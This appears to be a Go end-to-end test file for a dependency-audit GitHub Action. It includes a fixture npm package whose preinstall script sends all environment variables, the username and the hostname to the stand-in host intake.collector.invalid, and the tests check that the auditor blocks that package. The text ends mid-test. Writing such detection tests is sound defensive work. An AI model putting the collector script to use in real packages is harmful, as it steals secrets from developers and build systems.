package e2e

import (
	"encoding/json"
	"fmt"
	"io/fs"
	"maps"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/owenrumney/go-sarif/v3/pkg/report/v210/sarif"
	"gopkg.in/yaml.v3"

	"github.com/amalfi-audit/audit/internal/github"
	"github.com/amalfi-audit/audit/internal/github/githubtest"
)

// TestAction runs the Action as GitHub's runner does, on a project with
// lockfiles that npm wrote, with verdaccio as the registry and a fake of
// GitHub's API.
func TestAction(t *testing.T) {
	w := newWorld(t)
	publishHarbor(t, w)
	h := newHistory(t, w)
	t.Run("pull request", func(t *testing.T) { testActionPullRequest(t, w, h) })
	t.Run("fork", func(t *testing.T) { testActionFork(t, w, h) })
	t.Run("schedule", func(t *testing.T) { testActionSchedule(t, w, h) })
	t.Run("merge group", func(t *testing.T) { testActionMergeGroup(t, w, h) })
	t.Run("harmless bump", func(t *testing.T) { testActionHarmless(t, w, h) })
	t.Run("accepted", func(t *testing.T) { testActionAccepted(t, w, h) })
}

const (
	actionRepository = "harbor/site"
	actionFork       = "mallory/site"
	actionToken      = "ghs-0123456789"
	actionCheck      = "Amalfi Audit"
	actionSARIF      = "out/audit.sarif"
	actionReport     = "amalfi-audit-report.json"
	pullRequest      = 12 // in githubtest's payloads
	headRef          = "refs/pull/12/head"
	// badVersion is the one version that is not harmless.
	badVersion = "tide-gauge@1.1.0"
	// collectMark is a file that its script would leave in the home folder, were
	// it run outside the sandbox.
	collectMark = ".tide-gauge"
)

// collectScript takes what identifies the machine and its secrets to a host that
// cannot exist. collectLine is the line of it that reads the environment.
const (
	collectLine   = 7
	collectScript = `'use strict'
const fs = require('fs')
const https = require('https')
const os = require('os')

const body = JSON.stringify({
  env: process.env,
  user: os.userInfo().username,
  host: os.hostname(),
  home: os.homedir()
})
const request = https.request({
  hostname: 'intake.collector.invalid',
  path: '/v1/gauges',
  method: 'POST',
  headers: { 'Content-Type': 'application/json', 'Content-Length': Buffer.byteLength(body) }
}, function (response) { response.resume() })
request.on('error', function () {})
request.end(body)
fs.writeFileSync(os.homedir() + '/` + collectMark + `', 'ran')
`
)

// publishHarbor publishes the packages of the project: two versions each, with
// what ordinary patch and minor releases change, and tide-gauge's bad one. None
// lies in a folder as it is: an install there would run the script, and an audit
// of this repository would look for the lockfile.
func publishHarbor(t *testing.T, w *world) {
	t.Helper()
	manifest := func(name, version, more string) string {
		return fmt.Sprintf(`{
  "name": %q,
  "version": %q,
  "description": "One of the harbor's packages",
  "license": "MIT",
  "author": "The harbor <harbor@example.invalid>",
  "main": "index.js"%s
}
`, name, version, more)
	}
	for _, p := range []struct {
		name, version string
		more          string // members of the manifest
		files         map[string]string
	}{
		{"tide-gauge", "1.0.0", ``, map[string]string{"index.js": `'use strict'
exports.level = function (readings) {
  return readings.reduce((sum, r) => sum + r.height, 0) / readings.length
}
`}},
		{"tide-gauge", "1.0.1", ``, map[string]string{"index.js": `'use strict'
exports.level = function (readings) {
  if (readings.length === 0) return NaN
  return readings.reduce((sum, r) => sum + r.height, 0) / readings.length
}
`, "CHANGELOG.md": "# 1.0.1\n\n- No reading, no level\n"}},
		{"tide-gauge", "1.1.0", `,
  "scripts": {
    "preinstall": "node collect.js"
  }`, map[string]string{"collect.js": collectScript, "index.js": `'use strict'
exports.level = function (readings) {
  if (readings.length === 0) return NaN
  return readings.reduce((sum, r) => sum + r.height, 0) / readings.length
}
`}},
		{"harbor-retry", "0.3.0", ``, map[string]string{"index.js": `'use strict'
module.exports = function retry (times, action, done) {
  action(function (err, value) {
    if (err && times > 0) return setTimeout(retry, 250, times - 1, action, done)
    done(err, value)
  })
}
`}},
		// A client: it sends what it is given, and heeds the proxy's variable.
		{"harbor-http", "1.4.0", `,
  "scripts": {"test": "node test.js"}`, map[string]string{"index.js": `'use strict'
const https = require('https')
const proxy = process.env.HTTPS_PROXY
exports.get = function (url, done) {
  const target = new URL(proxy ? proxy + '/' + url : url)
  https.get(target, { headers: { accept: 'application/json' } }, function (res) {
    let text = ''
    res.on('data', function (chunk) { text += chunk })
    res.on('end', function () { done(null, JSON.parse(text)) })
  }).on('error', done)
}
`}},
		{"harbor-http", "1.5.0", `,
  "scripts": {"test": "node test.js"},
  "dependencies": {"harbor-retry": "^0.3.0"}`, map[string]string{"index.js": `'use strict'
const https = require('https')
const retry = require('harbor-retry')
const proxy = process.env.HTTPS_PROXY
exports.get = function (url, done) { retry(3, get.bind(null, url), done) }
function get (url, done) {
  const target = new URL(proxy ? proxy + '/' + url : url)
  https.get(target, { headers: { accept: 'application/json' } }, function (res) {
    let text = ''
    res.on('data', function (chunk) { text += chunk })
    res.on('end', function () {
      try { text = JSON.parse(text) } catch (err) { return done(err) }
      done(null, text)
    })
  }).on('error', done)
}
`}},
		// A tool that starts another program.
		{"harbor-cli", "3.1.0", `,
  "bin": {"harbor": "cli.js"}`, map[string]string{"index.js": "module.exports = require('./cli')\n", "cli.js": `#!/usr/bin/env node
'use strict'
const { execFileSync } = require('child_process')
const fs = require('fs')
const commit = execFileSync('git', ['rev-parse', 'HEAD'], { encoding: 'utf8' }).trim()
fs.writeFileSync('version.txt', commit + '\n')
`}},
		{"harbor-cli", "3.1.1", `,
  "bin": {"harbor": "cli.js"}`, map[string]string{"index.js": "module.exports = require('./cli')\n", "cli.js": `#!/usr/bin/env node
'use strict'
const { execFileSync } = require('child_process')
const fs = require('fs')
const path = require('path')
const commit = execFileSync('git', ['rev-parse', '--short', 'HEAD'], { encoding: 'utf8' }).trim()
fs.writeFileSync(path.join(process.cwd(), 'version.txt'), commit + '\n')
`}},
		{"@harbor/dates", "0.2.0", ``, map[string]string{"index.js": "exports.day = (d) => d.toISOString().slice(0, 10)\n"}},
		{"@harbor/dates", "0.2.1", ``, map[string]string{
			"index.js":   "exports.day = (d) => d.toISOString().slice(0, 10)\nexports.month = (d) => exports.day(d).slice(0, 7)\n",
			"index.d.ts": "export function day(d: Date): string\nexport function month(d: Date): string\n"}},
		// npm builds it at install, before as after.
		{"harbor-native", "2.0.0", ``, map[string]string{"index.js": "module.exports = require('./build/Release/harbor.node')\n",
			"binding.gyp": `{"targets": [{"target_name": "harbor", "sources": ["harbor.c"]}]}`, "harbor.c": "int harbor;\n"}},
		{"harbor-native", "2.1.0", ``, map[string]string{"index.js": "module.exports = require('./build/Release/harbor.node')\n",
			"binding.gyp": `{"targets": [{"target_name": "harbor", "sources": ["harbor.c"]}]}`, "harbor.c": "int harbor, pier;\n"}},
		// A bundle.
		{"harbor-ui", "5.0.3", ``, map[string]string{"index.js": `!function(e,t){"object"==typeof exports?module.exports=t():e.harbor=t()}(this,function(){"use strict";` +
			`function e(e,t){return e.x*t.x+e.y*t.y}return{dot:e,norm:function(t){return Math.sqrt(e(t,t))}}});` + "\n"}},
		{"harbor-ui", "5.1.0", ``, map[string]string{"index.js": `!function(e,t){"object"==typeof exports?module.exports=t():e.harbor=t()}(this,function(){"use strict";` +
			`function e(e,t){return e.x*t.x+e.y*t.y}function t(t){return Math.sqrt(e(t,t))}return{dot:e,norm:t,unit:function(e){var n=t(e);return{x:e.x/n,y:e.y/n}}}});` + "\n"}},
	} {
		p.files["package.json"] = manifest(p.name, p.version, p.more)
		w.publish(t, p.files)
	}
}

// history has the states of the project. Their lockfiles are npm's.
type history struct {
	// old is where all begins. bad brings the bad version in, renovated what an
	// updating bot brings: patch and minor versions of all packages, one of which
	// has a new dependency. ahead is old with another package updated: where the
	// base branch has moved on to.
	old, bad, renovated, ahead githubtest.Files
}

func newHistory(t *testing.T, w *world) *history {
	t.Helper()
	dependencies := map[string]string{"tide-gauge": "1.0.0", "harbor-http": "1.4.0", "harbor-cli": "3.1.0",
		"@harbor/dates": "0.2.0", "harbor-native": "2.0.0", "harbor-ui": "5.0.3"}
	with := func(changes map[string]string) map[string]string {
		out := maps.Clone(dependencies)
		maps.Copy(out, changes)
		return out
	}
	h := &history{old: w.npmProject(t, dependencies, nil)}
	h.bad = w.npmProject(t, with(map[string]string{"tide-gauge": "1.1.0"}), h.old)
	h.ahead = w.npmProject(t, with(map[string]string{"harbor-ui": "5.1.0"}), h.old)
	h.renovated = w.npmProject(t, map[string]string{"tide-gauge": "1.0.1", "harbor-http": "1.5.0", "harbor-cli": "3.1.1",
		"@harbor/dates": "0.2.1", "harbor-native": "2.1.0", "harbor-ui": "5.1.0"}, h.old)
	return h
}

// npmProject returns the files of a project with dependencies, which begins
// with the lockfile of another state of it, nil for none.
func (w *world) npmProject(t *testing.T, dependencies map[string]string, from githubtest.Files) githubtest.Files {
	t.Helper()
	dir := t.TempDir()
	manifest, err := json.MarshalIndent(map[string]any{"name": "site", "version": "1.0.0", "private": true, "dependencies": dependencies}, "", "  ")
	if err != nil {
		t.Fatal(err)
	}
	write(t, filepath.Join(dir, "package.json"), string(manifest)+"\n")
	if from != nil {
		write(t, filepath.Join(dir, "package-lock.json"), from["package-lock.json"])
	}
	w.must(t, dir, nil, "npm", "install", "--package-lock-only")
	return githubtest.Files{"README.md": "# The harbor's site\n",
		"package.json":      read(t, filepath.Join(dir, "package.json")),
		"package-lock.json": read(t, filepath.Join(dir, "package-lock.json"))}
}

// lockedAt returns the line of a package in a state's lockfile, and its
// integrity.
func lockedAt(t *testing.T, files githubtest.Files, name string) (line int, integrity string) {
	t.Helper()
	var lock struct {
		Packages map[string]struct{ Integrity string }
	}
	if err := json.Unmarshal([]byte(files["package-lock.json"]), &lock); err != nil {
		t.Fatal(err)
	}
	key := "node_modules/" + name
	for text := range strings.Lines(files["package-lock.json"]) {
		line++
		if strings.HasPrefix(strings.TrimSpace(text), fmt.Sprintf("%q: {", key)) {
			return line, lock.Packages[key].Integrity
		}
	}
	t.Fatalf("no %s in\n%s", name, files["package-lock.json"])
	return 0, ""
}

// actionJob is a job with the Action: its runner and the API that it talks to.
type actionJob struct {
	w   *world
	api *githubtest.Server
	// inputs are what the workflow sets.
	inputs map[string]string
}

func newActionJob(t *testing.T, w *world) *actionJob {
	t.Helper()
	a := &actionJob{w: w, api: githubtest.NewServer(t), inputs: map[string]string{
		"registry": w.registry, "comment": github.CommentOnFindings, "sarif-file": actionSARIF, "upload-sarif": "true"}}
	a.api.Token = actionToken
	return a
}

// actionRun is what one run leaves.
type actionRun struct {
	code         int
	log, summary string
	commands     []string // the workflow commands in the log
	outputs      map[string]string
	report       *report // the JSON report in the workspace
	sarif        *sarif.Run
}

// push runs the Action on a pull request after a push to it.
func (a *actionJob) push(t *testing.T, from, base, head string) *actionRun {
	t.Helper()
	// The runner's commit is a merge that nobody wrote; the API does not have it.
	merge := strings.Repeat("e", 40)
	return a.run(t, "pull_request", githubtest.PullRequestEvent(actionRepository, from, base, head), merge, "refs/pull/12/merge")
}

// run runs the Action as the runner does with a container: nothing is in its
// environment but what the runner and the image give, and files in the
// workspace, in the home folder and for workflow commands.
func (a *actionJob) run(t *testing.T, event string, payload []byte, sha, ref string) *actionRun {
	t.Helper()
	dir := t.TempDir()
	in := func(name string) string { return filepath.Join(dir, name) }
	for _, name := range []string{"workspace", "home", "commands", "tmp"} {
		if err := os.Mkdir(in(name), 0o700); err != nil {
			t.Fatal(err)
		}
	}
	write(t, in("event.json"), string(payload))
	write(t, in("commands/output"), "")
	write(t, in("commands/summary"), "")
	environ := append(a.inputVariables(t),
		"HOME="+in("home"), "TMPDIR="+in("tmp"), "CI=true", "GITHUB_ACTIONS=true", "RUNNER_OS=Linux", "RUNNER_ARCH=X64",
		"GITHUB_WORKSPACE="+in("workspace"), "GITHUB_OUTPUT="+in("commands/output"), "GITHUB_STEP_SUMMARY="+in("commands/summary"),
		"GITHUB_EVENT_NAME="+event, "GITHUB_EVENT_PATH="+in("event.json"), "GITHUB_SHA="+sha, "GITHUB_REF="+ref,
		"GITHUB_REPOSITORY="+actionRepository, "GITHUB_API_URL="+a.api.URL, "GITHUB_SERVER_URL=https://github.invalid",
		"GITHUB_RUN_ID=77", "GITHUB_RUN_ATTEMPT=1", "GITHUB_JOB=audit", "GITHUB_ACTOR=mallory", "GITHUB_WORKFLOW=Audit dependencies")
	res := run(t, in("workspace"), environ, a.w.audit, "action")
	t.Logf("exit code %d\n%s%s", res.code, res.stdout, res.stderr)
	if res.stderr != "" {
		t.Errorf("standard error: %s", res.stderr)
	}
	r := &actionRun{code: res.code, log: res.stdout, commands: workflowCommands(t, res.stdout),
		summary: read(t, in("commands/summary")), outputs: stepOutputs(t, read(t, in("commands/output")))}
	a.checkFiles(t, dir)
	r.report = new(report)
	if err := json.Unmarshal([]byte(read(t, in("workspace/"+actionReport))), r.report); err != nil {
		t.Fatalf("the JSON report: %v", err)
	}
	r.sarif = readSARIF(t, read(t, in("workspace/"+actionSARIF)))
	if strings.Contains(r.log+r.summary, actionToken) {
		t.Error("the token is shown")
	}
	return r
}

// inputVariables are the inputs as the runner gives them: every one of
// action.yml, under its name in capitals.
func (a *actionJob) inputVariables(t *testing.T) []string {
	t.Helper()
	var action struct {
		Inputs map[string]struct{ Default string }
	}
	if err := yaml.Unmarshal([]byte(read(t, "../../action.yml")), &action); err != nil {
		t.Fatal(err)
	}
	var out []string
	for name, input := range action.Inputs {
		value := strings.ReplaceAll(input.Default, "${{ github.token }}", actionToken)
		if set, ok := a.inputs[name]; ok {
			value = set
		}
		out = append(out, "INPUT_"+strings.ToUpper(name)+"="+value)
	}
	for name := range a.inputs {
		if _, ok := action.Inputs[name]; !ok {
			t.Fatalf("action.yml has no input %s", name)
		}
	}
	return out
}

// checkFiles checks that the workspace has the two reports and nothing else,
// and that no package's script has left its mark anywhere.
func (a *actionJob) checkFiles(t *testing.T, dir string) {
	t.Helper()
	var workspace []string
	err := filepath.WalkDir(dir, func(name string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		rel, err := filepath.Rel(dir, name)
		if file, ok := strings.CutPrefix(filepath.ToSlash(rel), "workspace/"); ok {
			workspace = append(workspace, file)
		}
		if d.Name() == collectMark {
			t.Errorf("the package's script was run: %s", rel)
		}
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff([]string{actionReport, actionSARIF}, workspace); diff != "" {
		t.Errorf("files in the workspace (-want +got)\n%s", diff)
	}
}

// workflowCommands returns the workflow commands that the runner takes from a
// log: it takes none between "::stop-commands::WORD" and "::WORD::".
func workflowCommands(t *testing.T, log string) []string {
	t.Helper()
	var out []string
	stop := ""
	for line := range strings.Lines(log) {
		line = strings.TrimSpace(line)
		word, stops := strings.CutPrefix(line, "::stop-commands::")
		switch {
		case stop != "":
			if line == "::"+stop+"::" {
				stop = ""
			}
		case stops:
			stop = word
		case strings.HasPrefix(line, "::"), strings.Contains(line, "##["):
			out = append(out, line)
		}
	}
	if stop != "" {
		t.Error("workflow commands stay stopped")
	}
	return out
}

// stepOutputs reads the file of GITHUB_OUTPUT as the runner does.
func stepOutputs(t *testing.T, text string) map[string]string {
	t.Helper()
	out := make(map[string]string)
	lines := strings.Split(strings.TrimSuffix(text, "\n"), "\n")
	for len(lines) > 0 {
		name, delimiter, ok := strings.Cut(lines[0], "<<")
		end := slices.Index(lines[1:], delimiter)
		if !ok || end < 0 {
			t.Fatalf("outputs at %q: no NAME<<DELIMITER, or no end", lines[0])
		}
		out[name] = strings.Join(lines[1:1+end], "\n")
		lines = lines[2+end:]
	}
	return out
}

// readSARIF decodes a log with the types of go-sarif and validates it against
// the schema that go-sarif carries.
func readSARIF(t *testing.T, data string) *sarif.Run {
	t.Helper()
	log, err := sarif.FromString(data)
	if err != nil {
		t.Fatal(err)
	}
	for _, run := range log.Runs { // defaults that go-sarif would write empty
		run.Language, run.Tool.Driver.Language, run.NewlineSequences = "en-US", "en-US", []string{"\n"}
	}
	if err := log.Validate(); err != nil {
		t.Error(err)
	}
	if len(log.Runs) != 1 {
		t.Fatalf("%d runs", len(log.Runs))
	}
	return log.Runs[0]
}

// resultLines are the results of a log, each with its level, place and rule;
// those that are accepted have a word for it.
func resultLines(run *sarif.Run) []string {
	var out []string
	for _, r := range run.Results {
		at := r.Locations[0].PhysicalLocation
		line := fmt.Sprintf("%s %s:%d %s", r.Level, *at.ArtifactLocation.URI, *at.Region.StartLine, *r.RuleID)
		if len(r.Suppressions) > 0 {
			line += " accepted"
		}
		out = append(out, line)
	}
	slices.Sort(out)
	return slices.Compact(out)
}

var (
	// badVerdict is the report's verdict on the bad version, in the form of
	// verdicts; the rules follow.
	badVerdict = "tide-gauge 1.0.0 -> 1.1.0: block"
	blocked    = map[string]string{"outcome": "block", "complete": "true", "blocked": "1", "warned": "0", "inconclusive": "0",
		"sarif-file": actionSARIF, "report-file": actionReport}
	clean = map[string]string{"outcome": "clean", "complete": "true", "blocked": "0", "warned": "0", "inconclusive": "0",
		"sarif-file": actionSARIF, "report-file": actionReport}
	// badEvidence is what is to be seen wherever there is room: the rules, and
	// the line that takes the environment.
	badEvidence = []string{"behavior-chain", "sandbox-leak", fmt.Sprintf("collect.js:%d:", collectLine)}
)

var noteOf = regexp.MustCompile(", note [a-z-]+")

// verdicts is report.summary without the notes, which fail nothing and are
// shown nowhere by themselves.
func (r *actionRun) verdicts() []string {
	lines := r.report.summary()
	for i := range lines {
		lines[i] = noteOf.ReplaceAllString(lines[i], "")
	}
	return lines
}

// checkResult checks what a run says in the exit code and the outputs.
func (r *actionRun) checkResult(t *testing.T, code int, outputs map[string]string) {
	t.Helper()
	if r.code != code {
		t.Errorf("exit code %d, want %d", r.code, code)
	}
	if diff := cmp.Diff(outputs, r.outputs); diff != "" {
		t.Errorf("outputs (-want +got)\n%s", diff)
	}
}

// checkBlocked checks what a run says of a change that brings the bad version in
// and nothing else, wherever that does not go through the API.
func (r *actionRun) checkBlocked(t *testing.T, line int) {
	t.Helper()
	r.checkResult(t, 1, blocked)
	if got := r.verdicts(); len(got) != 1 || !strings.HasPrefix(got[0], badVerdict) {
		t.Errorf("the report has %q, want %q alone", got, badVerdict)
	}
	at := fmt.Sprintf("package-lock.json:%d", line)
	checkContains(t, "the log", r.log, append([]string{"merge base", "tide-gauge  1.0.0 → 1.1.0", at}, badEvidence...)...)
	checkContains(t, "the summary", r.summary, append([]string{"## ⛔ Amalfi Audit: block", "`tide-gauge`", "`1.0.0` → `1.1.0`", "`" + at + "`"}, badEvidence...)...)
	r.checkBadResults(t, line, "")
}

// checkBadResults checks the errors in the SARIF file: those about the bad
// version, each with what more says of it.
func (r *actionRun) checkBadResults(t *testing.T, line int, more string) {
	t.Helper()
	got := slices.DeleteFunc(resultLines(r.sarif), func(l string) bool { return !strings.HasPrefix(l, "error ") })
	at := fmt.Sprintf("error package-lock.json:%d ", line)
	if diff := cmp.Diff([]string{at + "behavior-chain" + more, at + "sandbox-leak" + more}, got); diff != "" {
		t.Errorf("results (-want +got)\n%s", diff)
	}
}

// checkContains checks that a text has all parts.
func checkContains(t *testing.T, what, text string, parts ...string) {
	t.Helper()
	for _, part := range parts {
		if !strings.Contains(text, part) {
			t.Errorf("%s lacks %q:\n%s", what, part, text)
		}
	}
}

// checkRun returns the one check run that a job has written, for a commit.
func (a *actionJob) checkRun(t *testing.T, commit, conclusion string) githubtest.CheckRun {
	t.Helper()
	runs := slices.DeleteFunc(a.api.CheckRuns(), func(c githubtest.CheckRun) bool { return c.Commit != commit })
	if len(runs) != 1 {
		t.Fatalf("%d check runs for %s", len(runs), commit)
	}
	c := runs[0]
	if c.Repository != actionRepository || c.Name != actionCheck || c.Status != "completed" || c.Conclusion != conclusion ||
		c.URL != "https://github.invalid/harbor/site/actions/runs/77" {
		t.Errorf("check run %+v, want the conclusion %s", c, conclusion)
	}
	return c
}

// checkFailure checks the check run of an audit that blocks the bad version.
func (a *actionJob) checkFailure(t *testing.T, r *actionRun, commit string, line int) {
	t.Helper()
	c := a.checkRun(t, commit, "failure")
	if len(r.commands) != 0 {
		t.Errorf("annotated in the log as well: %q", r.commands)
	}
	checkContains(t, "the check run", c.Summary, append([]string{"Amalfi Audit: block", "`tide-gauge`", "`1.0.0` → `1.1.0`"}, badEvidence...)...)
	if len(c.Annotations) != 1 {
		t.Fatalf("annotations %+v", c.Annotations)
	}
	got := c.Annotations[0]
	if got.Path != "package-lock.json" || got.StartLine != line || got.EndLine != line || got.Level != "failure" ||
		got.Title != "Amalfi Audit: block "+badVersion {
		t.Errorf("annotation %+v, want one on line %d", got, line)
	}
	checkContains(t, "the annotation", got.Message, "[behavior-chain]", "[sandbox-leak]")
	checkContains(t, "the annotation's details", got.RawDetails, badEvidence...)
}

// checkUpload checks the one log that code scanning has got.
func (a *actionJob) checkUpload(t *testing.T, r *actionRun, commit, ref string) {
	t.Helper()
	uploads := a.api.Uploads()
	if len(uploads) != 1 {
		t.Fatalf("%d uploads", len(uploads))
	}
	u := uploads[0]
	if u.Repository != actionRepository || u.Commit != commit || u.Ref != ref {
		t.Errorf("uploaded to %s for %s at %s, want %s at %s", u.Repository, u.Commit, u.Ref, commit, ref)
	}
	run := readSARIF(t, string(u.SARIF))
	if diff := cmp.Diff(resultLines(r.sarif), resultLines(run)); diff != "" {
		t.Errorf("results (-file +upload)\n%s", diff)
	}
	if run.AutomationDetails == nil || *run.AutomationDetails.ID != "amalfi-audit/" {
		t.Errorf("the log's category is %+v", run.AutomationDetails)
	}
}

// testActionPullRequest brings the bad version in, while the base branch has
// moved on: what is new there is no part of the change.
func testActionPullRequest(t *testing.T, w *world, h *history) {
	a := newActionJob(t, w)
	root := a.api.Commit(actionRepository, h.old)
	tip := a.api.Commit(actionRepository, h.ahead, root)
	head := a.api.Commit(actionRepository, h.bad, root)
	line, _ := lockedAt(t, h.bad, "tide-gauge")

	r := a.push(t, actionRepository, tip, head)
	r.checkBlocked(t, line)
	a.checkFailure(t, r, head, line)
	a.checkUpload(t, r, head, headRef)
	comments := a.api.Comments(pullRequest)
	if len(comments) != 1 || comments[0].Author != "github-actions[bot]" || !strings.HasPrefix(comments[0].Body, github.Marker("amalfi-audit")+"\n## ") {
		t.Fatalf("comments %+v", comments)
	}
	checkContains(t, "the comment", comments[0].Body, append([]string{"Amalfi Audit: block", "`tide-gauge`", "`1.0.0` → `1.1.0`"}, badEvidence...)...)

	// Another push with the same lockfile finds the comment.
	again := a.api.Commit(actionRepository, h.bad, head)
	a.push(t, actionRepository, tip, again).checkBlocked(t, line)
	if got := a.api.Comments(pullRequest); len(got) != 1 || got[0].Edits != 1 {
		t.Errorf("after another push: %+v", got)
	}
}

// testActionFork has the token that GitHub gives to pull requests of forks: it
// reads and writes nothing.
func testActionFork(t *testing.T, w *world, h *history) {
	a := newActionJob(t, w)
	root := a.api.Commit(actionRepository, h.old)
	head := a.api.Commit(actionFork, h.bad, root)
	a.api.PullRequest(actionRepository, head)
	for _, method := range []string{"POST", "PATCH", "PUT", "DELETE"} {
		a.api.Fail(githubtest.Fault{Method: method, Status: 403, Message: "Resource not accessible by integration"})
	}
	line, _ := lockedAt(t, h.bad, "tide-gauge")

	r := a.push(t, actionFork, root, head)
	r.checkBlocked(t, line)
	prefixes := []string{
		fmt.Sprintf("::error file=package-lock.json,line=%d,title=Amalfi Audit%%3A block %s::", line, badVersion),
		"::notice title=Amalfi Audit::The comment was not written",
		"::notice title=Amalfi Audit::The result was not handed to code scanning",
	}
	if len(r.commands) != len(prefixes) {
		t.Errorf("workflow commands %q", r.commands)
	}
	for _, prefix := range prefixes {
		if !slices.ContainsFunc(r.commands, func(c string) bool { return strings.HasPrefix(c, prefix) }) {
			t.Errorf("no command %q in %q", prefix, r.commands)
		}
	}
	checkContains(t, "the log", r.log, "\nThe check run was not written")
	if n := len(a.api.CheckRuns()) + len(a.api.Comments(pullRequest)) + len(a.api.Uploads()); n != 0 {
		t.Errorf("%d things are written", n)
	}
	for _, q := range a.api.Requests() {
		if strings.Contains(q.Path, actionFork) {
			t.Errorf("the fork itself is asked: %s %s", q.Method, q.Path)
		}
	}
}

// testActionSchedule audits every version.
func testActionSchedule(t *testing.T, w *world, h *history) {
	const ref = "refs/heads/main"
	t.Run("harmless", func(t *testing.T) {
		a := newActionJob(t, w)
		head := a.api.Commit(actionRepository, h.renovated)
		r := a.run(t, "schedule", githubtest.ScheduleEvent(), head, ref)
		r.checkResult(t, 0, clean)
		if diff := cmp.Diff([]string{
			"@harbor/dates 0.2.1: clean",
			"harbor-cli 3.1.1: clean",
			"harbor-http 1.5.0: clean",
			"harbor-native 2.1.0: clean",
			"harbor-retry 0.3.0: clean",
			"harbor-ui 5.1.0: clean",
			"tide-gauge 1.0.1: clean",
		}, r.verdicts()); diff != "" {
			t.Errorf("report (-want +got)\n%s", diff)
		}
		checkContains(t, "the summary", r.summary, "## ✅ Amalfi Audit: clean", fmt.Sprintf("Audited `commit %.12s`", head))
		if got := resultLines(r.sarif); len(got) != 0 {
			t.Errorf("results %q", got)
		}
		a.checkUpload(t, r, head, ref)
		if c := a.checkRun(t, head, "success"); len(c.Annotations)+len(r.commands) != 0 {
			t.Errorf("annotations %+v, %q", c.Annotations, r.commands)
		}
	})
	t.Run("bad", func(t *testing.T) {
		a := newActionJob(t, w)
		head := a.api.Commit(actionRepository, h.bad)
		line, _ := lockedAt(t, h.bad, "tide-gauge")
		r := a.run(t, "schedule", githubtest.ScheduleEvent(), head, ref)
		r.checkResult(t, 1, blocked)
		if got := r.verdicts(); len(got) != 6 || !strings.HasPrefix(got[5], "tide-gauge 1.1.0: block") {
			t.Errorf("the report has %q", got)
		}
		r.checkBadResults(t, line, "")
		a.checkUpload(t, r, head, ref)
		if got := a.api.Comments(pullRequest); len(got) != 0 {
			t.Errorf("comments %+v", got)
		}
	})
}

// testActionMergeGroup has a group whose base has moved on since it was made.
func testActionMergeGroup(t *testing.T, w *world, h *history) {
	a := newActionJob(t, w)
	root := a.api.Commit(actionRepository, h.old)
	tip := a.api.Commit(actionRepository, h.ahead, root)
	head := a.api.Commit(actionRepository, h.bad, root)
	line, _ := lockedAt(t, h.bad, "tide-gauge")
	ref := "refs/heads/gh-readonly-queue/main/pr-12-" + tip

	r := a.run(t, "merge_group", githubtest.MergeGroupEvent(actionRepository, tip, head), head, ref)
	r.checkBlocked(t, line)
	checkContains(t, "the summary", r.summary, fmt.Sprintf("Compared `merge base %.12s` with `commit %.12s`", root, head))
	a.checkFailure(t, r, head, line)
	a.checkUpload(t, r, head, ref)
	if got := a.api.Comments(pullRequest); len(got) != 0 {
		t.Errorf("comments %+v", got)
	}
}

// testActionHarmless has a bot's update of everything, after a push that brought
// the bad version in or without one.
func testActionHarmless(t *testing.T, w *world, h *history) {
	for _, redBefore := range []bool{false, true} {
		t.Run(fmt.Sprintf("red before %t", redBefore), func(t *testing.T) {
			a := newActionJob(t, w)
			root := a.api.Commit(actionRepository, h.old)
			if redBefore {
				bad := a.api.Commit(actionRepository, h.bad, root)
				a.push(t, actionRepository, root, bad)
				if got := a.api.Comments(pullRequest); len(got) != 1 || !strings.Contains(got[0].Body, "## ⛔ Amalfi Audit: block") {
					t.Fatalf("comments %+v", got)
				}
			}
			head := a.api.Commit(actionRepository, h.renovated, root)
			r := a.push(t, actionRepository, root, head)
			r.checkResult(t, 0, clean)
			if diff := cmp.Diff([]string{
				"@harbor/dates 0.2.0 -> 0.2.1: clean",
				"harbor-cli 3.1.0 -> 3.1.1: clean",
				"harbor-http 1.4.0 -> 1.5.0: clean",
				"harbor-native 2.0.0 -> 2.1.0: clean",
				"harbor-retry 0.3.0: clean",
				"harbor-ui 5.0.3 -> 5.1.0: clean",
				"tide-gauge 1.0.0 -> 1.0.1: clean",
			}, r.verdicts()); diff != "" {
				t.Errorf("report (-want +got)\n%s", diff)
			}
			if c := a.checkRun(t, head, "success"); len(c.Annotations)+len(r.commands)+len(r.sarif.Results) != 0 {
				t.Errorf("annotations %+v, %q, results %q", c.Annotations, r.commands, resultLines(r.sarif))
			}
			checkContains(t, "the summary", r.summary, "## ✅ Amalfi Audit: clean", "`harbor-retry`")
			comments := a.api.Comments(pullRequest)
			switch {
			case !redBefore && len(comments) != 0:
				t.Errorf("comments %+v", comments)
			case redBefore && (len(comments) != 1 || comments[0].Edits != 1 || strings.Contains(comments[0].Body, "collect.js")):
				t.Errorf("comments %+v", comments)
			case redBefore:
				checkContains(t, "the comment", comments[0].Body, github.Marker("amalfi-audit")+"\n## ✅ Amalfi Audit: clean", "`harbor-retry`")
			}
		})
	}
}

// testActionAccepted has a configuration that accepts the bad version. It
// counts where it is on the base branch and names the bytes.
func testActionAccepted(t *testing.T, w *world, h *history) {
	const (
		reason        = "Read by the harbor master in March"
		configChanged = "is changed: this audit was made with the one of the base"
		entryTooWeak  = "does not accept all that it names"
	)
	line, integrity := lockedAt(t, h.bad, "tide-gauge")
	_, other := lockedAt(t, h.old, "tide-gauge")
	allow := func(keys string) string {
		return "allow:\n  - package: tide-gauge\n    " + keys + "\n    reason: " + reason + "\n"
	}
	exact := allow("integrity: " + integrity)
	for _, test := range []struct {
		name             string
		onBase, inChange string // the file there, "" for none
		accepted         bool
		notice           string // "" for none of those below
	}{
		{"on the base", exact, exact, true, ""},
		{"on the base alone", exact, "", true, configChanged},
		{"version and integrity", allow("version: 1.1.0\n    integrity: " + integrity), "", true, configChanged},
		{"in the change", "", exact, false, configChanged},
		{"other bytes", allow("integrity: " + other), allow("integrity: " + other), false, ""},
		{"no bytes", allow("version: 1.1.0"), allow("version: 1.1.0"), false, entryTooWeak},
	} {
		t.Run(test.name, func(t *testing.T) {
			a := newActionJob(t, w)
			with := func(files githubtest.Files, config string) githubtest.Files {
				files = maps.Clone(files)
				if config != "" {
					files[".amalfi.yml"] = config
				}
				return files
			}
			root := a.api.Commit(actionRepository, with(h.old, test.onBase))
			head := a.api.Commit(actionRepository, with(h.bad, test.inChange), root)
			r := a.push(t, actionRepository, root, head)
